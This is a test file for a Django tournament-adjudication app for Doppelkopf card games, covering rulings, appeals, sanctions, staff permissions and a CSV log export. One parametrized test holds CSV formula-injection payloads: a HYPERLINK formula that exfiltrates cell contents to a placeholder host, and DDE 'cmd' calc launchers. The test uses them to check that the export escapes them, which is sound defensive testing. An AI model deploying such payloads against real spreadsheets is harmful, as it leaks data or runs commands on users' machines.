"""The adjudicators' pages: a complaint decided and initialled from the table to the sheet, an
appeal, sanctions, the catalogue, the staff and the log; who may do what."""

import csv
import io
from dataclasses import replace

import pytest
from django.urls import reverse

from adjudication import services
from adjudication.models import Appeal, Decision, Event, Offence, RoleOffer, Sanction
from adjudication.selectors import sheet_adjudication
from doko.rules.contracts import Contract, SoloType
from doko.rules.offences import STANDARD_OFFENCES
from doko.rules.penalty import Severity
from doko.rules.procedure import WrittenLine
from tests import factories
from tests.adjudication.helpers import (
    MATCH,
    appealed,
    bound_deduction,
    decide,
    enter,
    sanction_appealed,
)
from tournaments.models import ExtraTime, TournamentRole

pytestmark = pytest.mark.django_db
Ruling = services.Ruling


@pytest.fixture(autouse=True)
def english(client):
    client.cookies["django_language"] = "en"


def url(name, *args):
    return reverse(name, args=args)


def test_a_complaint_from_the_table_page_to_initials(client, tournament, round_, sheet, staff):
    """The adjudicator is called to table 1: he notes the complaint, rules, initials; the
    penalty points show on the table page and in the sheet's entry page, with his initials."""
    enter(sheet, MATCH[:4])
    staff["adjudicator"].first_name, staff["adjudicator"].last_name = "Erika", "Schmidt"
    staff["adjudicator"].save()
    client.force_login(staff["adjudicator"])
    table_page = url("scoring:table", tournament.slug, 1, 1)
    assert "Note a complaint" in client.get(table_page).content.decode()

    form = client.get(url("adjudication:complaint-add", tournament.slug, 1, 1))
    assert form.context["form"]["hand_number"].value() == 5
    response = client.post(
        url("adjudication:complaint-add", tournament.slug, 1, 1),
        {"hand_number": 3, "offender": 2, "complainant": 1, "description": "Did not follow suit"},
    )
    decision = Decision.objects.get()
    assert response.url == url("adjudication:decision", tournament.slug, decision.pk)

    response = client.post(
        url("adjudication:decision-ruling", tournament.slug, decision.pk),
        {"severity": "minor", "contract": "normal", "announcements": 0},
    )
    assert response.status_code == 302
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk)).content.decode()
    assert "TSR 9.3.2" in page
    assert "Initial: the penalty points count" in page

    client.post(url("adjudication:decision-initial", tournament.slug, decision.pk))
    decision.refresh_from_db()
    assert decision.status == Decision.Status.INITIALLED
    page = client.get(table_page).content.decode()
    assert "Penalty points" in page
    assert "(ES)" in page
    assert "−3" in page
    sheet_page = client.get(url("scoring:sheet", tournament.slug, 1, 1)).content.decode()
    assert 'id="penalty-3"' in sheet_page


def test_a_deviating_ruling_without_a_reason_is_refused_and_nothing_is_saved(
    client, tournament, round_, sheet, staff
):
    enter(sheet, MATCH[:2])
    decision = services.complaint_record(
        scoresheet=sheet, hand_number=2, offender=3, description="x", by=staff["adjudicator"]
    )
    client.force_login(staff["adjudicator"])
    response = client.post(
        url("adjudication:decision-ruling", tournament.slug, decision.pk),
        {
            "severity": "minor",
            "contract": "normal",
            "announcements": 0,
            "deviate": "on",
            "penalty_1": 3,
            "penalty_2": 0,
            "penalty_3": -3,
            "penalty_4": 0,
        },
    )
    assert response.status_code == 422
    assert "give the reason" in response.content.decode()
    decision.refresh_from_db()
    assert decision.status == Decision.Status.OPEN


def test_points_off_the_tsrs_scale_are_refused_on_the_page_as_through_the_api(
    client, tournament, round_, sheet, staff
):
    """TSR 9.2-9.5, 9.6.2 b: the page's ruling form gets the service's answer, with the rule."""
    enter(sheet, MATCH[:3])
    decision = services.complaint_record(
        scoresheet=sheet, hand_number=3, offender=4, description="x", by=staff["adjudicator"]
    )
    client.force_login(staff["adjudicator"])
    response = client.post(
        url("adjudication:decision-ruling", tournament.slug, decision.pk),
        {
            "severity": "minor",
            "contract": "normal",
            "announcements": 0,
            "deviate": "on",
            "penalty_1": 5,
            "penalty_2": 0,
            "penalty_3": 0,
            "penalty_4": -5,
            "deviation_reason": "He was rude",
        },
    )
    assert response.status_code == 422
    page = response.content.decode()
    assert "+5/0/0/-5" in page
    assert "TSR 9.2-9.5, 9.6.2" in page
    decision.refresh_from_db()
    assert decision.status == Decision.Status.OPEN


def test_two_credits_to_the_soloist_show_no_problem_on_the_sheet_page(
    client, tournament, round_, sheet, staff
):
    """TSR 7.3.3.2: a (b1) and the soloist's own minor breach (a) on seat 1's compulsory solo,
    0/-2/+1/+1: the sheet's page shows no problem, as the API's check does."""
    enter(sheet, MATCH[:4])
    solo = {"contract": Contract.COMPULSORY_SOLO, "soloist": 1, "solo_type": SoloType.QUEENS}
    decide(
        sheet,
        staff,
        hand=2,
        offender=2,
        ruling=Ruling(Severity.MINOR, disadvantages_soloist=True, **solo),
    )
    decide(sheet, staff, hand=2, offender=1, ruling=Ruling(Severity.MINOR, **solo))
    client.force_login(staff["adjudicator"])
    page = client.get(url("scoring:sheet", tournament.slug, 1, 1)).content.decode()
    assert 'id="sheet-problems"' not in page
    assert "all even or all odd" not in page


def test_a_wedding_played_alone_is_ruled_as_a_solo_on_the_decision_page(
    client, tournament, round_, sheet, staff
):
    """TSR 4.4.3 b: the ruling form asks whether the wedding was already being played as a
    solo; then seat 3, who holds both Queens of Clubs, is the soloist of TSR 9.3.3."""
    line = MATCH[2]
    holders = replace(
        line,
        contract=Contract.WEDDING,
        soloist=3,
        solo_type=SoloType.DIAMONDS,
        points={1: -2, 2: -2, 3: 6, 4: -2},
    )
    enter(sheet, [*MATCH[:2], holders])
    decision = services.complaint_record(
        scoresheet=sheet, hand_number=3, offender=2, description="x", by=staff["adjudicator"]
    )
    client.force_login(staff["adjudicator"])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk))
    assert "already being played as a solo" in page.content.decode()
    form = page.context["ruling_form"]
    assert (form["contract"].value(), form["soloist"].value()) == ("wedding", 3)
    response = client.post(
        url("adjudication:decision-ruling", tournament.slug, decision.pk),
        {
            "severity": "minor",
            "contract": "wedding",
            "soloist": 3,
            "wedding_clarified_as_solo": "on",
            "disadvantages_soloist": "on",
            "announcements": 0,
        },
    )
    assert response.status_code == 302
    decision.refresh_from_db()
    assert decision.rule == "TSR 9.3.3 (b1)"
    assert decision.penalty == {1: 0, 2: -3, 3: 3, 4: 0}
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk)).content.decode()
    assert "already played as a solo (TSR 4.4.3 b, 4.4.5)" in page


def test_a_complaint_about_a_stopped_hand_is_refused_on_the_form(
    client, tournament, round_, sheet, staff
):
    """TSR 9.7.6: the form says why and saves nothing."""
    enter(sheet, MATCH[:2])
    decide(sheet, staff, hand=3, offender=1, ruling=Ruling(Severity.MAJOR))
    client.force_login(staff["adjudicator"])
    response = client.post(
        url("adjudication:complaint-add", tournament.slug, 1, 1),
        {"hand_number": 3, "offender": 2, "description": "Revoke"},
    )
    assert response.status_code == 200
    assert "TSR 9.7.6" in str(response.context["form"].errors["hand_number"])
    assert Decision.objects.count() == 1


def test_the_decision_page_says_the_solo_counts_without_game_points(
    client, tournament, round_, sheet, staff
):
    enter(sheet, MATCH[:2])
    ruling = Ruling(
        Severity.MAJOR,
        contract=Contract.COMPULSORY_SOLO,
        soloist=1,
        solo_type=SoloType.QUEENS,
        written_line=WrittenLine.STOPPED,
    )
    decision = decide(sheet, staff, hand=2, offender=4, ruling=ruling)
    client.force_login(staff["adjudicator"])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk)).content.decode()
    assert "the solo counts as played, without game points" in page
    client.cookies["django_language"] = "de"
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk)).content.decode()
    assert "ohne Spielpunkte" in page


def test_the_panel_changes_a_decision_on_its_page(client, tournament, round_, sheet, staff):
    enter(sheet, MATCH[:2])
    ruling = Ruling(Severity.MAJOR, written_line=WrittenLine.NEXT)
    decision = decide(sheet, staff, hand=2, offender=3, ruling=ruling)
    client.force_login(staff["adjudicator"])
    client.post(url("adjudication:appeal-lodge", tournament.slug, decision.pk), {"appellant": 3})
    appeal = Appeal.objects.get()

    client.force_login(staff["panel"][0])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk)).content.decode()
    assert "Decision of the arbitration panel" in page
    response = client.post(
        url("adjudication:appeal-decide", tournament.slug, decision.pk),
        {
            "outcome": "change",
            "members": [member.pk for member in staff["panel"]],
            "reasons": "Could not decide the game.",
            "interruption": 5,
            "panel-severity": "minor",
            "panel-contract": "normal",
            "panel-announcements": 0,
        },
    )
    assert response.status_code == 302
    appeal.refresh_from_db()
    assert appeal.outcome == Appeal.Outcome.CHANGE
    assert Decision.objects.get(appeal=appeal).penalty == {1: 1, 2: 1, 3: -3, 4: 1}
    assert ExtraTime.objects.get().minutes == 5


def test_the_dashboard_shows_what_waits_in_constant_queries(
    client, tournament, round_, sheet, staff, django_assert_num_queries
):
    enter(sheet, MATCH[:4])
    client.force_login(staff["adjudicator"])

    def dashboard():
        return client.get(url("adjudication:adjudication", tournament.slug))

    decide(sheet, staff, hand=1, offender=1, ruling=Ruling(Severity.MINOR), initial=False)
    # session, user, tournament, roles (the page's and each policy's), the dashboard's six
    with django_assert_num_queries(13) as first:
        dashboard()
    services.complaint_record(
        scoresheet=sheet, hand_number=2, offender=2, description="x", by=staff["adjudicator"]
    )
    decide(sheet, staff, hand=3, offender=3, ruling=Ruling(Severity.MINOR))
    services.sanction_impose(
        entry=sheet.table.seats.get(position=4).entry,
        round=round_,
        kind="warning",
        reasons="Loud",
        members=staff["panel"],
        by=staff["panel"][0],
    )
    with django_assert_num_queries(len(first.captured_queries)):
        page = dashboard().content.decode()
    assert page.count('class="list-group-item list-group-item-action"') == 3
    assert "Loud" in page


@pytest.mark.parametrize("who", ["anonymous", "keeper", "stranger"])
def test_who_may_not_decide_gets_nothing(client, tournament, round_, sheet, staff, who):
    """A scorekeeper's account, another user, or nobody: no page, no complaint, no ruling,
    no initials, no sanction; nothing saved."""
    enter(sheet, MATCH[:2])
    decision = decide(
        sheet, staff, hand=2, offender=1, ruling=Ruling(Severity.MINOR), initial=False
    )
    if who != "anonymous":
        client.force_login(staff.get(who) or factories.user())
    expected = 302 if who == "anonymous" else 403
    attempts = [
        ("get", url("adjudication:adjudication", tournament.slug), {}),
        ("get", url("adjudication:decision", tournament.slug, decision.pk), {}),
        (
            "post",
            url("adjudication:complaint-add", tournament.slug, 1, 1),
            {"hand_number": 2, "offender": 1, "description": "x"},
        ),
        (
            "post",
            url("adjudication:decision-ruling", tournament.slug, decision.pk),
            {"severity": "major", "contract": "normal", "announcements": 0},
        ),
        ("post", url("adjudication:decision-initial", tournament.slug, decision.pk), {}),
        (
            "post",
            url("adjudication:sanction-add", tournament.slug),
            {"start_number": 1, "round": 1, "kind": "warning", "reasons": "x"},
        ),
        ("get", url("adjudication:adjudication-log-csv", tournament.slug), {}),
    ]
    for method, address, data in attempts:
        response = getattr(client, method)(address, data)
        assert response.status_code == expected, address
    decision.refresh_from_db()
    assert decision.status == Decision.Status.DRAFT
    assert decision.severity == "minor"
    assert Decision.objects.count() == 1
    assert not Sanction.objects.exists()


def test_the_organiser_reads_along_but_does_not_decide(client, tournament, round_, sheet, staff):
    enter(sheet, MATCH[:2])
    decision = decide(
        sheet, staff, hand=2, offender=1, ruling=Ruling(Severity.MINOR), initial=False
    )
    client.force_login(staff["organiser"])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk)).content.decode()
    assert "Initial: the penalty points count" not in page
    assert (
        client.post(url("adjudication:decision-initial", tournament.slug, decision.pk)).status_code
        == 403
    )
    decision.refresh_from_db()
    assert decision.status == Decision.Status.DRAFT


def test_a_sanction_from_its_page(client, tournament, round_, sheet, staff):
    enter(sheet, MATCH[:3])
    entry = sheet.table.seats.get(position=2).entry
    client.force_login(staff["adjudicator"])
    response = client.post(
        url("adjudication:sanction-add", tournament.slug),
        {
            "start_number": entry.start_number,
            "round": 1,
            "kind": "deduction",
            "points": 4,
            "reasons": "Rude",
        },
    )
    assert response.status_code == 422
    assert "the adjudicator gives only the bound decisions" in response.content.decode()
    assert not Sanction.objects.exists()

    client.force_login(staff["panel"][0])
    response = client.post(
        url("adjudication:sanction-add", tournament.slug),
        {
            "start_number": entry.start_number,
            "round": 1,
            "kind": "deduction",
            "points": 4,
            "reasons": "Rude",
            "members": [staff["panel"][0].pk, staff["panel"][1].pk],
        },
    )
    assert response.status_code == 302
    assert Sanction.objects.get().points == 4
    page = client.get(url("scoring:table", tournament.slug, 1, 1)).content.decode()
    assert "Deducted for unsporting conduct" in page


def test_the_adjudicator_at_his_own_table_is_told_who_decides(
    client, tournament, round_, sheet, staff
):
    """TSR 8.2.1: no ruling form, no complaint form, and the page says why and who decides
    instead; a crafted post is refused and saves nothing."""
    enter(sheet, MATCH[:2])
    decision = services.complaint_record(
        scoresheet=sheet, hand_number=2, offender=1, description="x", by=staff["deputy"]
    )
    TournamentRole.objects.filter(user=staff["adjudicator"]).update(
        entry=sheet.table.seats.get(position=4).entry
    )
    client.force_login(staff["adjudicator"])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk))
    assert "ruling_form" not in page.context
    assert (
        "You play at table 1: the deputy adjudicator decides this complaint (TSR 8.2.1)."
        in page.content.decode()
    )
    refused = client.get(url("adjudication:complaint-add", tournament.slug, 1, 1))
    assert refused.status_code == 403
    assert "the deputy adjudicator decides this complaint (TSR 8.2.1)" in refused.content.decode()
    response = client.post(
        url("adjudication:decision-ruling", tournament.slug, decision.pk),
        {"severity": "major", "contract": "normal", "announcements": 0},
    )
    assert response.status_code == 403
    decision.refresh_from_db()
    assert decision.status == Decision.Status.OPEN

    client.force_login(staff["deputy"])
    assert (
        "ruling_form"
        in client.get(url("adjudication:decision", tournament.slug, decision.pk)).context
    )


def test_a_panel_member_rules_on_no_complaint_but_initials(
    client, tournament, round_, sheet, staff
):
    """TSR 8.2.1: the panel rules in no first instance; TSR 8.2.2: "vom Schiedsrichter oder
    von einem Mitglied des Schiedsgerichtes [...] abzuzeichnen", so a member initials."""
    enter(sheet, MATCH[:2])
    decision = decide(
        sheet, staff, hand=2, offender=1, ruling=Ruling(Severity.MINOR), initial=False
    )
    client.force_login(staff["panel"][0])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk))
    assert page.status_code == 200
    assert "ruling_form" not in page.context
    assert "Initial: the penalty points count" in page.content.decode()
    assert client.get(url("adjudication:complaint-add", tournament.slug, 1, 1)).status_code == 403
    assert (
        client.post(url("adjudication:decision-initial", tournament.slug, decision.pk)).status_code
        == 302
    )
    decision.refresh_from_db()
    assert decision.status == Decision.Status.INITIALLED
    assert decision.initialled_by == staff["panel"][0]


def test_a_bound_decision_is_appealed_and_changed_on_the_sanction_page(
    client, tournament, round_, sheet, staff
):
    """The adjudicator gives the catalogue's bound decision alone; the player appeals; the
    panel changes the deduction (TSR 8.2.1, 9.6.3)."""
    enter(sheet, MATCH)
    offence = services.offence_save(
        tournament=tournament,
        name="Mobile phone rang",
        kind=Offence.Kind.UNSPORTING,
        bound=True,
        deduction=4,
        by=staff["organiser"],
    )
    entry = sheet.table.seats.get(position=3).entry
    client.force_login(staff["adjudicator"])
    response = client.post(
        url("adjudication:sanction-add", tournament.slug),
        {
            "start_number": entry.start_number,
            "round": 1,
            "offence": offence.pk,
            "kind": "deduction",
            "points": 4,
            "reasons": "Rang in hand 5",
        },
    )
    sanction = Sanction.objects.get()
    assert response.url == url("adjudication:sanction", tournament.slug, sanction.pk)
    page = client.get(response.url)
    assert "appeal_form" in page.context
    assert "a bound decision (TSR 9.6.3)" in page.content.decode()
    response = client.post(
        url("adjudication:sanction-appeal-lodge", tournament.slug, sanction.pk),
        {"grounds": "Not mine"},
    )
    assert response.status_code == 302
    appeal = Appeal.objects.get()
    assert appeal.appellant == 3

    client.force_login(staff["panel"][0])
    page = client.get(url("adjudication:sanction", tournament.slug, sanction.pk))
    assert "panel_form" in page.context
    response = client.post(
        url("adjudication:sanction-appeal-decide", tournament.slug, sanction.pk),
        {
            "outcome": "change",
            "members": [staff["panel"][0].pk, staff["panel"][1].pk],
            "reasons": "It rang once.",
            "interruption": 0,
            "panel-kind": "deduction",
            "panel-points": 2,
        },
    )
    assert response.status_code == 302
    sanction.refresh_from_db()
    assert sanction.status == Sanction.Status.SUPERSEDED
    assert Sanction.objects.get(appeal=appeal).points == 2
    dashboard = client.get(url("adjudication:adjudication", tournament.slug)).content.decode()
    assert "changed by the arbitration panel" in dashboard
    page = client.get(url("scoring:table", tournament.slug, 1, 1)).content.decode()
    assert "Deducted for unsporting conduct" in page


def test_the_organiser_appoints_a_deputy_adjudicator(client, tournament, staff):
    member = staff["panel"][0]
    client.force_login(staff["organiser"])
    response = client.post(
        url("adjudication:staff", tournament.slug), {"username": member.username, "role": "deputy"}
    )
    assert response.status_code == 302
    services.role_offer_accept(offer=RoleOffer.objects.get(user=member), by=member)
    assert TournamentRole.objects.filter(user=member, role="deputy").exists()
    client.cookies["django_language"] = "de"
    assert (
        "stellvertretender Schiedsrichter"
        in client.get(url("adjudication:staff", tournament.slug)).content.decode()
    )


def test_the_catalogue_is_kept_on_its_page(client, tournament, staff):
    client.force_login(staff["adjudicator"])
    client.post(url("adjudication:offences-default", tournament.slug))
    assert Offence.objects.filter(tournament=tournament).count() == len(STANDARD_OFFENCES)
    response = client.post(
        url("adjudication:offences", tournament.slug),
        {"name": "Talking during play", "rule": "TSR 9.1.5", "kind": "unsporting", "bound": "on"},
    )
    assert response.status_code == 422
    assert "0 (a warning) to 12" in response.content.decode()
    client.post(
        url("adjudication:offences", tournament.slug),
        {"name": "Talking during play", "kind": "unsporting", "bound": "on", "deduction": 2},
    )
    offence = Offence.objects.get(name="Talking during play")
    assert offence.deduction == 2
    client.post(url("adjudication:offence-delete", tournament.slug, offence.pk))
    assert not Offence.objects.filter(pk=offence.pk).exists()


def test_the_organiser_appoints_the_staff(client, tournament, staff):
    newcomer = factories.user(username="schiri2")
    client.force_login(staff["organiser"])
    response = client.post(
        url("adjudication:staff", tournament.slug),
        {"username": "schiri2", "role": "panel", "start_number": 3},
    )
    assert response.status_code == 302
    assert not TournamentRole.objects.filter(user=newcomer).exists()  # offered, not given
    services.role_offer_accept(offer=RoleOffer.objects.get(user=newcomer), by=newcomer)
    grant = TournamentRole.objects.get(user=newcomer)
    assert grant.entry.start_number == 3
    response = client.post(
        url("adjudication:staff", tournament.slug), {"username": "nobody", "role": "panel"}
    )
    assert response.status_code == 302  # the same answer as for a name with an account
    client.post(url("adjudication:staff-revoke", tournament.slug, grant.pk))
    assert not TournamentRole.objects.filter(user=newcomer).exists()

    client.force_login(staff["adjudicator"])
    assert client.get(url("adjudication:staff", tournament.slug)).status_code == 403


def test_the_log_exports_every_action(client, tournament, round_, sheet, staff):
    enter(sheet, MATCH[:2])
    decide(sheet, staff, hand=2, offender=1, ruling=Ruling(Severity.MINOR))
    client.force_login(staff["organiser"])
    page = client.get(url("adjudication:adjudication-log", tournament.slug)).content.decode()
    assert "decision initialled" in page
    response = client.get(url("adjudication:adjudication-log-csv", tournament.slug))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["time", "by", "action", "what"]
    assert [row[2] for row in rows[1:]] == [
        "complaint recorded",
        "ruling made",
        "decision initialled",
    ]
    assert Event.objects.count() == 3


@pytest.mark.parametrize(
    ("username", "summary"),
    [
        ("@admin", '=HYPERLINK("https://evil.example/?"&A1;"Details")'),
        ("+49", "+1"),
        ("-x", "-cmd|' /C calc'!A0"),
        ("orga", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("orga", "\tx"),
        ("orga", "\rx"),
    ],
)
def test_the_log_csv_writes_formulas_as_text(client, tournament, staff, username, summary):
    """A user name or an old entry's text that a spreadsheet would run is written as text."""
    Event.objects.create(
        tournament=tournament,
        by=factories.user(username=username),
        action=Event.Action.OFFENCE,
        summary=summary,
    )
    client.force_login(staff["organiser"])
    response = client.get(url("adjudication:adjudication-log-csv", tournament.slug))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    _header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert row[1] == ("'" + username if username != "orga" else "orga")
    assert row[3] == "'" + summary


def test_the_seats_points_include_penalties_and_deductions(
    client, tournament, round_, sheet, staff
):
    """The table page's and round page's points per seat agree with the sheet's totals."""
    enter(sheet, MATCH[:4])
    decide(sheet, staff, hand=3, offender=2, ruling=Ruling(Severity.MINOR))
    services.sanction_impose(
        entry=sheet.table.seats.get(position=4).entry,
        round=round_,
        kind="deduction",
        points=5,
        reasons="Rude",
        members=staff["panel"],
        by=staff["panel"][0],
    )
    response = client.get(url("scoring:table", tournament.slug, 1, 1))
    shown = [seat.points for seat in response.context["row"].seats]
    assert shown == list(response.context["check"].totals.values())
    game = [sum(line.points[seat] for line in MATCH[:4]) for seat in range(1, 5)]
    assert shown == [game[0] + 1, game[1] - 3, game[2] + 1, game[3] + 1 - 5]
    # Read by the table's number with its row (``table_sheet_get``), as by the sheet.
    by_sheet = sheet_adjudication(sheet=sheet)
    read = response.context["adjudication"]
    assert read.deductions == by_sheet.deductions == {4: -5}
    assert [d.pk for d in read.decisions] == [d.pk for d in by_sheet.decisions]
    assert len(read.decisions) == 1
    assert [row.hand.number for row in response.context["hand_rows"]] == [1, 2, 3, 4]


def test_the_organiser_finds_the_substitute_button_of_a_disqualified_player(
    client, tournament, round_, sheet, staff
):
    entry = sheet.table.seats.get(position=2).entry
    services.sanction_impose(
        entry=entry,
        round=round_,
        kind="disqualification",
        reasons="Marked cards.",
        members=staff["panel"],
        by=staff["panel"][0],
    )
    client.force_login(staff["organiser"])
    page = client.get(url("tournaments:entries", tournament.slug)).content.decode()
    assert url("tournaments:entry-replace", tournament.slug, entry.start_number) in page
    assert "disqualified" in page


# Input that is no number where one is asked for ------------------------------------------------


@pytest.mark.parametrize("number", ["abc", "²", "9" * 30])
def test_an_offence_to_edit_named_by_no_number_is_a_400_naming_the_field(
    client, tournament, staff, number
):
    client.force_login(staff["adjudicator"])
    response = client.get(url("adjudication:offences", tournament.slug), {"edit": number})
    assert response.status_code == 400
    assert "“edit” must be the number of an offence of the catalogue." in response.content.decode()
    response = client.post(
        url("adjudication:offences", tournament.slug),
        {"pk": number, "name": "Late", "kind": "breach", "severity": "minor"},
    )
    assert response.status_code == 400
    assert "“pk” must be the number of an offence of the catalogue." in response.content.decode()
    assert not Offence.objects.filter(tournament=tournament).exists()


def test_an_offence_to_edit_that_does_not_exist_is_404(client, tournament, staff):
    client.force_login(staff["adjudicator"])
    assert (
        client.get(url("adjudication:offences", tournament.slug), {"edit": 99999}).status_code
        == 404
    )


def test_panel_members_beyond_64_bits_are_refused_on_the_form(
    client, tournament, round_, sheet, staff
):
    """No account has such a number, and SQLite cannot be asked for it: the form says so."""
    enter(sheet, MATCH[:3])
    client.force_login(staff["panel"][0])
    response = client.post(
        url("adjudication:sanction-add", tournament.slug),
        {
            "start_number": sheet.table.seats.get(position=2).entry.start_number,
            "round": 1,
            "kind": "warning",
            "reasons": "Rude",
            "members": [staff["panel"][0].pk, str(10**30)],
        },
    )
    assert response.status_code == 422
    assert f"“{10**30}” is not a valid value." in response.content.decode()
    assert not Sanction.objects.exists()


@pytest.mark.parametrize("number", [str(10**30), "-" + str(10**30), "²"])
def test_a_staff_start_number_that_is_none_is_refused_on_its_field(
    client, tournament, staff, number
):
    factories.user(username="schiri2")
    client.force_login(staff["organiser"])
    response = client.post(
        url("adjudication:staff", tournament.slug),
        {"username": "schiri2", "role": "panel", "start_number": number},
    )
    assert response.status_code == 422
    assert response.context["form"].errors["start_number"]
    assert not TournamentRole.objects.filter(user__username="schiri2").exists()


def test_the_decision_page_says_why_an_appeal_is_too_late(client, tournament, round_, sheet, staff):
    """TSR 9.7.7: once the table wrote its next hand the page offers no appeal and says why."""
    enter(sheet, MATCH[:2])
    decision = decide(sheet, staff, hand=2, offender=1, ruling=Ruling(Severity.MINOR))
    client.force_login(staff["adjudicator"])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk))
    assert "appeal_form" in page.context
    enter(sheet, MATCH[:3])
    page = client.get(url("adjudication:decision", tournament.slug, decision.pk))
    assert "appeal_form" not in page.context
    assert "(TSR 9.7.7)" in page.content.decode()


@pytest.mark.parametrize("kind", ["decision", "sanction"])
def test_a_panel_decision_refused_comes_back_with_its_forms(
    client, tournament, round_, sheet, staff, kind
):
    """The panel's forms are one for a decision and a sanction: refused (no reasons, TSR
    8.2.1), the page comes back with both forms and the reason, and nothing is recorded."""
    if kind == "decision":
        row, appeal = appealed(sheet, staff, ruling=Ruling(Severity.MINOR))
    else:
        row, appeal = sanction_appealed(tournament, round_, sheet, staff)
    client.force_login(staff["panel"][0])
    decide_route = (
        "adjudication:appeal-decide"
        if kind == "decision"
        else "adjudication:sanction-appeal-decide"
    )
    response = client.post(
        url(decide_route, tournament.slug, row.pk),
        {"outcome": "change", "members": [staff["panel"][0].pk], "reasons": ""},
    )
    assert response.status_code == 422
    assert response.context["panel_form"].errors["reasons"]
    assert "change_form" in response.context
    assert "Record the panel" in response.content.decode()
    appeal.refresh_from_db()
    assert appeal.outcome == ""


def test_the_sanction_page_says_why_an_appeal_is_too_late(client, tournament, round_, sheet, staff):
    """TSR 9.7.7, as for a decision: once the player's table wrote its next hand the page
    offers no appeal against the bound decision and says why."""
    enter(sheet, MATCH[:2])
    sanction = bound_deduction(tournament, round_, sheet, staff)
    client.force_login(staff["adjudicator"])
    page = client.get(url("adjudication:sanction", tournament.slug, sanction.pk))
    assert "appeal_form" in page.context
    enter(sheet, MATCH[:3])
    page = client.get(url("adjudication:sanction", tournament.slug, sanction.pk))
    assert "appeal_form" not in page.context
    assert "(TSR 9.7.7)" in page.content.decode()


def test_the_sanction_page_tells_who_gave_the_bound_decision_who_decides_the_appeal(
    client, tournament, round_, sheet, staff
):
    """TSR 8.2.1, two instances, as for a decision: a member of the panel who, as deputy,
    gave the bound decision gets no panel form on its appeal, and is told why."""
    member = staff["panel"][0]
    factories.role_grant(tournament=tournament, user=member, role=TournamentRole.Role.DEPUTY)
    enter(sheet, MATCH)
    offence = services.offence_save(
        tournament=tournament,
        name="Mobile phone rang",
        kind=Offence.Kind.UNSPORTING,
        bound=True,
        deduction=4,
        by=staff["organiser"],
    )
    sanction = services.sanction_impose(
        entry=sheet.table.seats.get(position=3).entry,
        round=round_,
        kind=Sanction.Kind.DEDUCTION,
        points=4,
        offence=offence,
        reasons="The phone rang during hand 5.",
        by=member,
    )
    services.appeal_lodge(sanction=sanction, by=staff["adjudicator"])
    client.force_login(member)
    page = client.get(url("adjudication:sanction", tournament.slug, sanction.pk))
    assert "panel_form" not in page.context
    assert "You ruled on or initialled the decision appealed against" in page.content.decode()
    client.force_login(staff["panel"][1])
    page = client.get(url("adjudication:sanction", tournament.slug, sanction.pk))
    assert "panel_form" in page.context


def test_the_panels_own_sanction_links_to_the_sanction_appealed_against(
    client, tournament, round_, sheet, staff
):
    """As the panel's own ruling does (TSR 8.2.1): final, and one click from what it replaced."""
    sanction, appeal = sanction_appealed(tournament, round_, sheet, staff)
    services.appeal_decide(
        appeal=appeal,
        outcome=Appeal.Outcome.CHANGE,
        members=staff["panel"],
        reasons="It rang once.",
        sanction=services.SanctionRuling(kind=Sanction.Kind.WARNING),
        by=staff["panel"][0],
    )
    own = Sanction.objects.get(appeal=appeal)
    client.force_login(staff["adjudicator"])
    page = client.get(url("adjudication:sanction", tournament.slug, own.pk)).content.decode()
    assert "it is final (TSR 8.2.1)" in page
    assert url("adjudication:sanction", tournament.slug, sanction.pk) in page
    page = client.get(url("adjudication:sanction", tournament.slug, sanction.pk)).content.decode()
    assert url("adjudication:sanction", tournament.slug, own.pk) in page
